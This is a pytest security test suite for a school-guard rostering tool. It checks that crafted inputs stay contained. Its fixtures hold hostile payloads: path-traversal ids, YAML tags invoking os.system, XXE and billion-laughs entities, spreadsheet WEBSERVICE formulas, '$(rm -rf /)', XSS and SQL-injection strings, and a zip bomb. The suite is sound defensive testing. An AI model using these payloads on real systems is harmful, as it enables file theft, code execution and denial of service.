"""Safety (issue 6, item 6): no input makes the tool write outside its output folder, read other
files, reach the network or run code.

- ids used in file names (calendars, batch district folders) are made safe and stay inside OUT;
- YAML tags (``!include``, ``!!python/...``), JSON ``$ref`` and workbook formulas, external links
  and XML entities are refused or read as plain text, never followed: an audit hook records every
  file the loader opens and every socket or process it would start;
- names like ``{{7*7}}``, ``${HOME}``, ``$(rm -rf /)`` and ``<script>`` appear literally in the
  roster and escaped in the HTML outputs;
- a symbolic link put in place of an output folder is replaced, never written through.

Every solve here is checked by the validator (``schoolpost check``).
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import json
import os
import re
import site
import socket
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml
from click.testing import CliRunner

from scheduler.commands import main

ROOT = Path(__file__).resolve().parent.parent
SECRET = "TOP-SECRET-4c1d"  # the content of a file no input may make the tool read


# ------------------------------------------------------------------------------------------------
# helpers
# ------------------------------------------------------------------------------------------------


def instance(persons: list[dict], *, schools: list[dict] | None = None, name: str = "safety", min_: int = 1,
             **extra) -> dict:
    """One school (or ``schools``) with a gate needing ``min_`` people; ``persons`` are its guards
    unless they say otherwise."""
    schools = schools or [{
        "id": "s1", "name": "First School", "type": "primary", "location": {"lat": 37.38, "lon": 117.97},
        "peaks": [{"name": "arrival", "start": "07:20", "end": "08:00"}],
        "posts": [{"id": "s1/gate", "name": "Gate", "demand": {"default": {"min": min_, "target": min_}}}],
    }]
    people = [{"role": "security_guard", "unit": schools[0]["id"], **p} for p in persons]
    return {"format": "schoolpost/1", "name": name, "week_start": "2026-12-07", "days": ["mon", "tue"],
            "policy": {"leader_on_duty": False, "min_professional_share": 0.0}, "schools": schools,
            "persons": people, **extra}


def write_json(path: Path, data: dict) -> Path:
    path.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")
    return path


def run(*args: str):
    return CliRunner().invoke(main, list(args))


def solve_and_check(path: Path, out: Path, *extra: str) -> None:
    """solve (3 s, one worker), then the validator on the files: both exit 0."""
    r = run("solve", str(path), "-o", str(out), "--time-limit", "3", "--workers", "1", "--quiet", *extra)
    assert r.exit_code == 0, (r.output, r.exception)
    c = run("check", str(path), str(out))
    assert c.exit_code == 0, c.output


def refused(r, *words: str) -> str:
    """Exit code 2 and one line ``error: ...`` holding ``words``."""
    assert isinstance(r.exception, SystemExit) and r.exit_code == 2, (r.output, r.exception)
    assert len(r.output.splitlines()) == 1 and r.output.startswith("error: "), repr(r.output)
    for w in words:
        assert w in r.output, (w, r.output)
    return r.output


def snapshot(folder: Path, skip: Path | None = None) -> dict[str, tuple]:
    """Every file, link and folder under ``folder`` (links not followed): files with size and
    modification time, links with their target."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(folder, followlinks=False):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            if skip is not None and (p == skip or skip in p.parents):
                continue
            if p.is_symlink():
                out[str(p.relative_to(folder))] = ("link", os.readlink(p))
            elif p.is_dir():
                out[str(p.relative_to(folder))] = ("folder",)
            else:
                st = p.stat()
                out[str(p.relative_to(folder))] = ("file", st.st_size, st.st_mtime_ns)
    return out


def rows_of(path: Path) -> list[dict]:
    """A CSV the project wrote, cells as SPEC's readers take them (the formula guard's ' off)."""
    from models import csv_value

    with open(path, encoding="utf-8", newline="") as fh:
        return [{k: csv_value(v) for k, v in row.items()} for row in csv.DictReader(fh)]


# Every file the process opens and every network or process call, while recording.
_EVENTS: list[tuple[str, tuple]] | None = None
_WATCHED = ("open", "socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "urllib.Request",
            "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "ctypes.dlopen")


def _audit(event: str, args: tuple) -> None:
    if _EVENTS is not None and event in _WATCHED:
        _EVENTS.append((event, args))


sys.addaudithook(_audit)


@contextlib.contextmanager
def recording():
    """Record the watched audit events of the block (``sys.addaudithook``: every Python-level
    file open, socket, subprocess or exec)."""
    global _EVENTS
    events: list[tuple[str, tuple]] = []
    _EVENTS = events
    try:
        yield events
    finally:
        _EVENTS = None


_CODE_DIRS = tuple(sorted({
    str(Path(p).resolve()) + os.sep
    for p in (sys.prefix, sys.base_prefix, sys.exec_prefix, *site.getsitepackages(), site.getusersitepackages(),
              ROOT / "models", ROOT / "scheduler")
}))


def foreign_opens(events, allowed: Path) -> list[str]:
    """Files opened that are neither ``allowed`` (the input) nor Python code and data."""
    bad = []
    for event, args in events:
        if event != "open":
            bad.append(f"{event} {args!r}")
            continue
        target = args[0]
        if isinstance(target, int) or target is None:
            continue
        path = str(Path(os.fsdecode(target)).resolve())
        if path == str(allowed.resolve()) or path.startswith(_CODE_DIRS) or path.startswith("/proc/self/"):
            continue
        bad.append(path)
    return bad


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET + "\n", encoding="utf-8")
    return path


@pytest.fixture
def no_network(monkeypatch):
    """Any socket connection fails the test."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"network call {args!r}")
    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


# ------------------------------------------------------------------------------------------------
# (a) ids used in file names stay inside the output folder
# ------------------------------------------------------------------------------------------------

HOSTILE_IDS = ["../../evil", "/etc/passwd", "..", ".", "CON", "a/b", ".hidden", "x" * 200, "Guard", "guard", "GUARD",
               "nul.ics", "a\\b", "~root", "-rf", "two words", "名字"]
SAFE_FILE = re.compile(r"^[A-Za-z0-9_-][A-Za-z0-9._~-]*\.ics$")  # never hidden, no separators
WINDOWS_DEVICE = re.compile(r"^(con|prn|aux|nul|com[1-9]|lpt[1-9])(\.|$)", re.IGNORECASE)


def test_person_ids_never_lead_a_file_outside_the_output_folder(tmp_path, monkeypatch):
    """Person ids like ../../evil, /etc/passwd, .., CON, a/b, .hidden, 200 characters and ids that
    differ only in case: every file written is inside OUT, calendar names are safe and unique (also
    ignoring case), one per person on duty, and the roster keeps the ids as they are."""
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)  # a relative path gone wrong would land here
    persons = [{"id": pid, "name": f"N{i:02d}"} for i, pid in enumerate(HOSTILE_IDS)]
    path = write_json(work / "inst.json", instance(persons, min_=len(HOSTILE_IDS)))
    out = work / "out"
    before = snapshot(tmp_path)
    etc_passwd = Path("/etc/passwd").stat().st_mtime_ns
    solve_and_check(path, out)
    after = snapshot(tmp_path, skip=out)
    assert after == before, sorted(set(after) ^ set(before))
    assert Path("/etc/passwd").stat().st_mtime_ns == etc_passwd
    for p in out.rglob("*"):
        assert out.resolve() in p.resolve().parents and not p.is_symlink(), p
    on_duty = {r["person_id"] for r in rows_of(out / "roster.csv")}
    assert on_duty == set(HOSTILE_IDS)  # the data keeps every id as given
    names = [p.name for p in (out / "calendars").iterdir()]
    assert len(names) == len(on_duty) == len({n.lower() for n in names})
    for name in names:
        assert SAFE_FILE.match(name) and len(name.encode()) <= 255, name
        assert not WINDOWS_DEVICE.match(name), name  # CON.ics cannot be made on Windows
    assert {p.parent for p in (out / "calendars").iterdir()} == {out / "calendars"}
    for pid in on_duty:  # each calendar is its person's
        assert sum(f"School posts safety: N{HOSTILE_IDS.index(pid):02d}" in (out / "calendars" / n).read_text()
                   for n in names) == 1


@pytest.mark.parametrize("ids, names", [
    (["CON", "con.txt", "Lpt9", "COM1.ics", "aux"], ["_CON", "_con.txt", "_Lpt9", "_COM1.ics", "_aux"]),
    (["Guard", "guard", "GUARD"], ["Guard", "guard~2", "GUARD~3"]),
    (["..", ".", "", "a.", ".hidden", "../../x"], ["_", "_~2", "_~3", "a", "hidden", "_.._x"]),
    (["CONSOLE", "com10", "nul_"], ["CONSOLE", "com10", "nul_"]),  # not device names
])
def test_file_names_from_ids(ids, names):
    """One naming rule (calendars and batch folders): no separators, never hidden or ending in a
    dot, never a Windows device name, unique ignoring case, in the order the ids come."""
    from scheduler.names import safe_name

    taken: set[str] = set()
    assert [safe_name(i, taken) for i in ids] == names


@pytest.mark.parametrize("pid, words", [
    ("p" * 300, "persons[0].id: must have at most 200 characters"),
    ("a\tb", "persons[0].id: must be text without control characters (found '\\t' at position 1)"),
    ("\u3000\t ", "persons[0].id: must have at least 1 character"),  # nothing left once trimmed
])
def test_ids_too_long_or_with_control_characters_are_refused(tmp_path, pid, words):
    """Ids are at most 200 characters, without control characters, not empty once trimmed: such an
    id is bad input, not a file name."""
    path = write_json(tmp_path / "inst.json", instance([{"id": pid}]))
    refused(run("solve", str(path), "-o", str(tmp_path / "out")), words)
    assert not (tmp_path / "out").exists()


def test_text_fields_lose_the_white_space_around_them_and_the_roster_passes_its_check(tmp_path):
    """SPEC: text fields are taken as written less leading and trailing white space (spaces, tab,
    no-break space, ideographic space U+3000), in ids, names, roles and mapping keys alike, the
    same from YAML, JSON and a workbook. The roster solve writes then passes the project's own
    check, with the trimmed name in every output."""
    data = instance([{"id": " g1\u3000", "name": "\t张伟\u3000", "role": "security_guard "},
                     {"id": "g2", "name": "\xa0Li Na ", "unit": " s1"}])
    data["schools"][0]["posts"][0]["demand"]["default"]["min"] = 2
    data["schools"][0]["posts"][0]["demand"]["default"]["target"] = 2
    path = write_json(tmp_path / "inst.json", data)
    out = tmp_path / "out"
    solve_and_check(path, out, "--outputs", "all")
    rows = rows_of(out / "roster.csv")
    assert {(r["person_id"], r["person_name"], r["role"]) for r in rows} == {
        ("g1", "张伟", "security_guard"), ("g2", "Li Na", "security_guard")}
    assert len(rows) == 4  # both on the gate, both days
    (tmp_path / "inst.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    c = run("check", str(tmp_path / "inst.yaml"), str(out))
    assert c.exit_code == 0, c.output
    assert "\u3000" not in (out / "report.html").read_text(encoding="utf-8")


def test_two_keys_that_differ_only_by_white_space_are_refused(tmp_path):
    """Trimming must not merge two keys of one mapping silently."""
    data = instance([{"id": "g1"}])
    data["policy"]["weights"] = {"shortfall": 5, " shortfall": 7}
    path = write_json(tmp_path / "inst.json", data)
    refused(run("solve", str(path), "-o", str(tmp_path / "out")), "policy.weights.shortfall",
            "given twice", "spaces")


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://example.invalid\",\"x\")", "+1+1", "-2+3", "@SUM(A1)",
                                  "'=already quoted", "''@twice"])
def test_csv_cells_never_start_a_formula_and_read_back_exactly(tmp_path, text):
    """SPEC: every CSV the project writes neutralises a cell that would start a spreadsheet formula
    (= + - @ tab CR) by a leading ', and its readers take it off again; JSON keeps the text exact.
    A person id and name, a school and post id of that kind: roster.csv and gaps.csv guard them,
    roster.json does not, check reads the roster back and passes, and batch merges it unchanged."""
    schools = [{"id": text + "s", "type": "primary", "district": "d1", "location": {"lat": 37.38, "lon": 117.97},
                "peaks": [{"name": "arrival", "start": "07:20", "end": "08:00"}],
                "posts": [{"id": text + "gate", "demand": {"default": {"min": 2, "target": 2}}}]}]
    data = instance([{"id": text + "p", "name": text}], schools=schools)
    path = write_json(tmp_path / "inst.json", data)
    out = tmp_path / "out"
    solve_and_check(path, out, "--outputs", "none")
    raw = list(csv.reader(io.StringIO((out / "roster.csv").read_text(encoding="utf-8"))))[1:]
    assert raw and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in raw for cell in row)
    assert {row[6] for row in raw} == {"'" + text + "p"} and {row[7] for row in raw} == {"'" + text}
    assert {r["person_name"] for r in json.loads((out / "roster.json").read_text(encoding="utf-8"))} == {text}
    gaps = list(csv.reader(io.StringIO((out / "gaps.csv").read_text(encoding="utf-8"))))[1:]
    assert gaps and {row[2] for row in gaps} == {"'" + text + "s"}  # one guard, two seats: gaps at the school
    merged = tmp_path / "batch"
    r = run("batch", str(path), "-o", str(merged), "--time-limit", "3", "--outputs", "none", "--quiet")
    assert r.exit_code == 0, r.output
    assert (merged / "roster.csv").read_text(encoding="utf-8") == (out / "roster.csv").read_text(encoding="utf-8")
    c = run("check", str(path), str(merged))
    assert c.exit_code == 0, c.output


def test_batch_district_names_stay_inside_the_districts_folder(tmp_path, monkeypatch):
    """Districts named ../../x, .., /etc and a/b: each gets a safe folder of its own inside
    OUT/districts; nothing is written elsewhere; the merged roster passes the validator."""
    work = tmp_path / "w"
    work.mkdir()
    monkeypatch.chdir(work)
    districts = ["../../x", "..", "/etc", "a/b", "North", "north", "CON", "lpt1.txt", "x."]
    schools = [{"id": f"s{i}", "type": "primary", "district": d, "location": {"lat": 37.38 + i / 100, "lon": 117.97},
                "peaks": [{"name": "arrival", "start": "07:20", "end": "08:00"}],
                "posts": [{"id": f"s{i}/gate", "demand": {"default": {"min": 1}}}]} for i, d in enumerate(districts)]
    data = instance([], schools=schools)
    data["persons"] = [{"id": f"g{i}", "role": "security_guard", "unit": f"s{i}"} for i in range(len(schools))]
    path = write_json(work / "city.json", data)
    out = work / "out"
    before = snapshot(tmp_path)
    r = run("batch", str(path), "-o", str(out), "--time-limit", "3", "--jobs", "1", "--outputs", "none", "--quiet")
    assert r.exit_code == 0, (r.output, r.exception)
    assert snapshot(tmp_path, skip=out) == before
    folders = sorted(p.name for p in (out / "districts").iterdir())
    assert len(folders) == len(districts)
    assert len({name.lower() for name in folders}) == len(districts)  # North and north: two folders anywhere
    for name in folders:
        assert re.fullmatch(r"[A-Za-z0-9_-]([A-Za-z0-9._-]*[A-Za-z0-9_-])?", name) and name not in (".", ".."), name
        assert not WINDOWS_DEVICE.match(name), name
    for p in out.rglob("*"):
        assert out.resolve() in p.resolve().parents, p
    assert run("check", str(path), str(out)).exit_code == 0


# ------------------------------------------------------------------------------------------------
# (b) no other file is read, no network is used
# ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [
    "!include {secret}",
    "!!python/object/apply:builtins.open [{secret}]",
    "!!python/object/new:pathlib.Path [{secret}]",
    "!!python/name:os.system",
    "!!python/object/apply:os.system ['cat {secret} > {secret}.copy']",
    "!<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [[cat, {secret}]]",
    "!!binary {b64}",
])
def test_yaml_tags_are_refused_and_read_nothing(tmp_path, secret, no_network, value):
    """YAML tags that would include a file or build Python objects are refused (exit 2, one
    line) -- or, for !!binary, read as plain data -- and no other file is opened."""
    import base64

    text = yaml.safe_dump(instance([{"id": "g1"}]), sort_keys=False)
    b64 = base64.b64encode(str(secret).encode()).decode()
    text = text.replace("name: First School", "name: " + value.format(secret=secret, b64=b64))
    path = tmp_path / "inst.yaml"
    path.write_text(text, encoding="utf-8")
    with recording() as events:
        r = run("info", str(path))
    assert SECRET not in r.output
    assert foreign_opens(events, path) == []
    assert not Path(f"{secret}.copy").exists()
    if value.startswith("!!binary"):  # plain base64 data: the path as bytes, read as the name's text
        assert r.exit_code == 0, r.output
    else:
        refused(r, "not valid YAML: could not determine a constructor for the tag")


@pytest.mark.parametrize("tz", ["../../../../etc/passwd", "/etc/passwd", "Asia/../../../etc/passwd", "zone.tab"])
def test_a_time_zone_name_is_not_a_path(tmp_path, tz):
    """``timezone`` names an IANA zone: a path is refused, and only the time zone database is read."""
    import zoneinfo

    path = write_json(tmp_path / "tz.json", instance([{"id": "g1"}], timezone=tz))
    with recording() as events:
        refused(run("info", str(path)), "timezone: unknown time zone")
    tz_dirs = tuple(str(Path(d).resolve()) + os.sep for d in zoneinfo.TZPATH)
    assert [p for p in foreign_opens(events, path) if not p.startswith(tz_dirs)] == []


def test_json_ref_is_data_not_a_link(tmp_path, secret, no_network):
    """JSON ``$ref`` is not followed: as a field it is an unknown field, as a name a plain mapping
    (refused), and a name holding a path or URL is shown as that text, never the file's content."""
    base = instance([{"id": "g1"}])
    for data, words in [({**base, "$ref": str(secret)}, "$ref: unknown field"),
                        ({**base, "persons": [{**base["persons"][0], "name": {"$ref": str(secret)}}]},
                         "persons[0].name: must be a valid string")]:
        path = write_json(tmp_path / "ref.json", data)
        with recording() as events:
            out = refused(run("info", str(path)), words)
        assert SECRET not in out and foreign_opens(events, path) == []
    text_names = [str(secret), f"file://{secret}", f'{{"$ref": "{secret}"}}', "http://example.invalid/x"]
    data = instance([{"id": f"g{i}", "name": n} for i, n in enumerate(text_names)], min_=len(text_names))
    path = write_json(tmp_path / "names.json", data)
    out = tmp_path / "out"
    solve_and_check(path, out)
    monday = [r["person_name"] for r in rows_of(out / "roster.csv") if r["date"] == "2026-12-07"]
    assert sorted(monday) == sorted(text_names)
    for p in out.rglob("*"):
        if p.is_file():
            assert SECRET.encode() not in p.read_bytes(), p


def _template_with(change) -> bytes:
    from models.spreadsheet import template_bytes

    wb = openpyxl.load_workbook(io.BytesIO(template_bytes()))
    change(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _person_row(ws, pid: str) -> int:
    return next(r for r in range(3, ws.max_row + 1) if ws.cell(row=r, column=1).value == pid)


def test_workbook_formulas_are_never_evaluated(tmp_path, secret, no_network):
    """Formulas in instance workbooks (=WEBSERVICE, =HYPERLINK, a link to another file) are never
    evaluated: the reader takes the value the spreadsheet program saved. A formula with none (as
    openpyxl and other libraries write them) is refused by sheet, row and column, never read as a
    blank (a post silently got min 0); a text cell that merely starts with '=' is that text."""
    formulas = ['=WEBSERVICE("http://example.invalid/steal")', f'=HYPERLINK("file://{secret}")',
                f"='file://{secret}'#$Sheet1.A1", "=[1]Sheet1!A1"]
    path = tmp_path / "formulas.xlsx"
    for pid, formula in zip(("P01", "P02", "P03", "A02"), formulas):
        def name(wb, pid=pid, formula=formula):
            ws = wb["persons"]
            ws.cell(row=_person_row(ws, pid), column=2).value = formula  # a formula cell (data type f)

        path.write_bytes(_template_with(name))
        with recording() as events:
            line = refused(run("info", str(path)), "sheet 'persons', row", "column 'name'",
                           "a formula with no value saved")
        assert f"row {_person_row(openpyxl.load_workbook(path)['persons'], pid)}," in line
        assert foreign_opens(events, path) == [] and SECRET not in line

    def min_formula(wb):
        ws = wb["posts"]
        ws.cell(row=3, column=8).value = "=1+1"

    path.write_bytes(_template_with(min_formula))
    refused(run("info", str(path)), "sheet 'posts', row 3, column 'min'", "a formula with no value saved")

    def text(wb):
        cell = wb["persons"].cell(row=_person_row(wb["persons"], "A01"), column=2)
        cell.value, cell.data_type = "=1+1", "s"  # text that starts with '='

    path.write_bytes(_template_with(text))
    out = tmp_path / "out"
    solve_and_check(path, out, "--outputs", "none")
    by_id = {r["person_id"]: r["person_name"] for r in rows_of(out / "roster.csv")}
    assert by_id.get("A01") in (None, "=1+1")
    assert "'=1+1" in (out / "roster.csv").read_text(encoding="utf-8") or "A01" not in by_id


def test_a_formulas_saved_value_is_read(tmp_path):
    """A formula whose value a spreadsheet program saved (``<f>`` with ``<v>``) reads as that value."""
    def min_formula(wb):
        wb["posts"].cell(row=3, column=8).value = "=1+1"

    def saved(name, content):
        if name is None or not name.startswith("xl/worksheets/"):
            return content
        return re.sub(rb"<f>1\+1</f><v\s*/>|<f>1\+1</f>(?!<v>)", b"<f>1+1</f><v>2</v>", content)

    path = tmp_path / "saved.xlsx"
    path.write_bytes(_rezip(_template_with(min_formula), saved))
    from models import load_instance

    inst = load_instance(path)
    ws = openpyxl.load_workbook(path)["posts"]
    school, post = ws.cell(row=3, column=1).value, ws.cell(row=3, column=2).value
    demand = next(p for s in inst.schools if s.id == school for p in s.posts if p.id == post).demand
    assert demand["default"].min == 2


def test_merged_cells_read_their_value_in_every_cell_they_cover(tmp_path):
    """A merged range shows one value over several cells: each cell it covers reads that value
    (two persons under one merged unit cell both belong to that unit), never a blank."""
    def merged(wb):
        ws = wb["persons"]
        r = _person_row(ws, "P02")
        ws.cell(row=r + 1, column=4).value = None
        ws.merge_cells(start_row=r, start_column=4, end_row=r + 1, end_column=4)

    path = tmp_path / "merged.xlsx"
    path.write_bytes(_template_with(merged))
    from models import load_instance

    inst = load_instance(path)
    by_id = {p.id: p for p in inst.persons}
    assert by_id["P02"].unit == by_id["P03"].unit == "west-station"


def _rezip(data: bytes, change) -> bytes:
    """Rewrite the members of an .xlsx (a zip): ``change(name, content) -> content``; extra members
    come from ``change(None, {})`` filling the dict."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, change(item.filename, src.read(item.filename)))
        extra: dict[str, bytes] = {}
        change(None, extra)
        for name, content in extra.items():
            dst.writestr(name, content)
    return out.getvalue()


def test_workbook_xml_entities_and_external_links_are_not_followed(tmp_path, secret, no_network):
    """An .xlsx whose XML declares an external entity (XXE: SYSTEM "file:///...secret") or a
    billion-laughs entity, and one with an external link part pointing at another file: refused or
    read without the entity, never the file's content, no other file opened."""
    from models.spreadsheet import template_bytes

    template = template_bytes()
    xxe = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'

    laughs = ('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
              + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>")
    touched = []

    def entities(doctype: str, first: bytes, second: bytes):
        def change(name, content):  # the persons sheet (inline strings) names P01 and P02 by entities
            if name is not None and b"<t>Wang Jun</t>" in content:
                touched.append(name)
                content = doctype.encode() + content.replace(b"<t>Wang Jun</t>", b"<t>" + first + b"</t>").replace(
                    b"<t>Liu Yang</t>", b"<t>" + second + b"</t>")
            return content
        return change

    def external_link(name, content):
        if name is None:
            content["xl/externalLinks/externalLink1.xml"] = (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
                b"</externalLink>")
            content["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'externalLinkPath" Target="file://' + str(secret).encode() + b'" TargetMode="External"/>'
                b"</Relationships>")
            return content
        if name == "xl/_rels/workbook.xml.rels":
            content = content.replace(b"</Relationships>", b'<Relationship Id="rIdX1" Type="http://schemas.'
                                      b'openxmlformats.org/officeDocument/2006/relationships/externalLink" '
                                      b'Target="externalLinks/externalLink1.xml"/></Relationships>')
        elif name == "xl/workbook.xml":
            content = content.replace(b"</sheets>", b'</sheets><externalReferences><externalReference xmlns:r="http://'
                                      b'schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX1"/>'
                                      b"</externalReferences>")
        elif name == "[Content_Types].xml":
            content = content.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                      b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                      b'externalLink+xml"/></Types>')
        return content

    for label, change in (("xxe", entities(xxe, b"&xxe;", b"x")), ("laughs", entities(laughs, b"&i;", b"&h;")),
                          ("link", external_link)):
        path = tmp_path / f"{label}.xlsx"
        path.write_bytes(_rezip(template, change))
        with recording() as events:
            r = run("info", str(path), "--json")
        assert SECRET not in r.output, label
        assert foreign_opens(events, path) == [], label
        if r.exit_code != 0:
            refused(r)
        else:
            assert "aaaaaaaaaaaaaaaaaaaa" not in r.output
    assert len(touched) == 2, "the entity workbooks were not made"


# ------------------------------------------------------------------------------------------------
# (c) no code runs: names are shown as text
# ------------------------------------------------------------------------------------------------

NASTY = ["{{7*7}}", "${HOME}", "$(rm -rf /)", "`id`", "<script>alert(1)</script>", "\"quoted\" & 'single'",
         "%s%n%x", "{0.__class__}", "=1+1", "Robert'); DROP TABLE persons;--", "\u202eevil\u202c", "tab\there"]


def _nasty_instance() -> dict:
    school = {
        "id": "<script>alert('s')</script>", "name": "{{7*7}} School <b>", "type": "primary",
        "district": "${HOME}", "address": "$(rm -rf /) Road\r\nATTACH:http://evil",
        "location": {"lat": 37.38, "lon": 117.97},
        "peaks": [{"name": "{{peak}}", "start": "07:20", "end": "08:00"}],
        "posts": [{"id": "<img src=x onerror=alert(1)>", "name": "<i>gate</i> ${PATH}",
                   "demand": {"default": {"min": len(NASTY) + 2, "target": len(NASTY) + 2}}}],
    }
    persons = [{"id": f"$(p{i})", "name": n} for i, n in enumerate(NASTY)]
    return instance(persons, schools=[school], name="{{7*7}}-week")


def test_names_and_ids_appear_literally_and_escaped_in_outputs(tmp_path, no_network):
    """Template, shell and HTML syntax in names and ids is never interpreted: roster.csv holds it
    as given, report.html and duty-sheets.html hold it HTML-escaped (no raw tag), calendars hold
    no injected line; the folder has nothing but the usual files."""
    data = _nasty_instance()
    path = write_json(tmp_path / "nasty.json", data)
    out = tmp_path / "out"
    before = snapshot(tmp_path)
    solve_and_check(path, out)
    assert snapshot(tmp_path, skip=out) == before
    assert sorted(p.name for p in out.iterdir()) == ["calendars", "duty-sheets.html", "gaps.csv", "report.html",
                                                     "roster.csv", "roster.json", "roster.xlsx", "summary.json"]
    rows = rows_of(out / "roster.csv")
    assert {r["person_name"] for r in rows} == set(NASTY)
    assert {r["school_id"] for r in rows} == {data["schools"][0]["id"]}
    assert {r["post_id"] for r in rows} == {data["schools"][0]["posts"][0]["id"]}
    assert {r["peak"] for r in rows} == {"{{peak}}"}
    assert {r["person_name"] for r in json.loads((out / "roster.json").read_text(encoding="utf-8"))} == set(NASTY)
    for page in ("report.html", "duty-sheets.html"):
        text = (out / page).read_text(encoding="utf-8")
        for raw in ("<script>alert", "<img src=x", "School <b>", "<i>gate"):
            assert raw not in text, (page, raw)
        assert "{{7*7}}" in text and "49 School" not in text, page
    assert html.escape("<script>alert('s')</script>", quote=True) in (out / "report.html").read_text(encoding="utf-8")
    sheets = (out / "duty-sheets.html").read_text(encoding="utf-8")
    assert html.escape("<script>alert(1)</script>", quote=True) in sheets
    assert html.escape("<img src=x onerror=alert(1)>", quote=True) in sheets or "&lt;i&gt;gate" in sheets
    assert "$(rm -rf /) Road" in sheets
    for ics in (out / "calendars").iterdir():
        lines = ics.read_bytes().decode("utf-8").split("\r\n")
        assert not any(line.startswith("ATTACH") for line in lines), ics.name


def test_roster_workbook_holds_names_as_text_not_formulas(tmp_path):
    """roster.xlsx: every cell made from input text is text, never a formula."""
    data = instance([{"id": "g1", "name": '=WEBSERVICE("http://example.invalid/"&A1)'},
                     {"id": "g2", "name": "=1+1"}, {"id": "g3", "name": "@SUM(1)"}], min_=3)
    path = write_json(tmp_path / "inst.json", data)
    out = tmp_path / "out"
    solve_and_check(path, out, "--outputs", "xlsx")
    wb = openpyxl.load_workbook(out / "roster.xlsx")
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize("char", ["\x07", "\x7f", "\x85", "\x9b", "\u2028", "\u2029"])
def test_control_characters_in_names_are_bad_input(tmp_path, char):
    """A name holding a control character (C0, DEL, C1: which no workbook can hold) or a line or
    paragraph separator (a line break to editors and browsers) is refused before solving, with
    exit 2 and one line, instead of a traceback after the solve or a name on two lines."""
    path = write_json(tmp_path / "inst.json", instance([{"id": "g1", "name": f"Li{char}Wei"}]))
    refused(run("solve", str(path), "-o", str(tmp_path / "out")),
            "persons[0].name: must be one line without control characters")
    assert not (tmp_path / "out").exists()
    path = write_json(tmp_path / "inst.json", instance([{"id": f"g{char}1"}]))
    refused(run("solve", str(path), "-o", str(tmp_path / "out")), "persons[0].id: must be text without control characters")


# ------------------------------------------------------------------------------------------------
# (d) links in the output folder are not followed
# ------------------------------------------------------------------------------------------------


def test_a_symlinked_calendars_folder_is_replaced_not_written_through(tmp_path):
    """OUT/calendars is a symbolic link to a folder outside OUT: the solve replaces the link with
    its own folder and leaves the linked folder as it was; OUT/roster.csv linked to an outside
    file is replaced the same way."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("keep", encoding="utf-8")
    outside_file = tmp_path / "outside.csv"
    outside_file.write_text("keep", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "calendars").symlink_to(elsewhere, target_is_directory=True)
    (out / "roster.csv").symlink_to(outside_file)
    path = write_json(tmp_path / "inst.json", instance([{"id": "g1"}, {"id": "g2"}], min_=2))
    solve_and_check(path, out)
    assert sorted(p.name for p in elsewhere.iterdir()) == ["keep.txt"]
    assert (elsewhere / "keep.txt").read_text(encoding="utf-8") == "keep"
    assert outside_file.read_text(encoding="utf-8") == "keep"
    assert not (out / "calendars").is_symlink() and (out / "calendars").is_dir()
    assert sorted(p.name for p in (out / "calendars").iterdir()) == ["g1.ics", "g2.ics"]
    assert not (out / "roster.csv").is_symlink()


def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(tmp_path, monkeypatch):
    """A small .xlsx can unpack to gigabytes (blanks compress a thousandfold; one of 2.1 MB was read
    at 2.25 GB): refused by its unpacked size, which the zip lists, before any part is read."""
    import models.spreadsheet
    from models.spreadsheet import template_bytes

    blanks = _rezip(template_bytes(), lambda name, content: content if name is not None
                    else content.update({"xl/blank.xml": b" " * (3 * 2**20)}))
    path = tmp_path / "blanks.xlsx"
    path.write_bytes(blanks)
    assert path.stat().st_size < 200_000
    monkeypatch.setattr(models.spreadsheet, "MAX_UNPACKED_BYTES", 2 * 2**20)
    refused(run("info", str(path)), "the workbook unpacks to 3 MiB; the limit is 2 MiB")


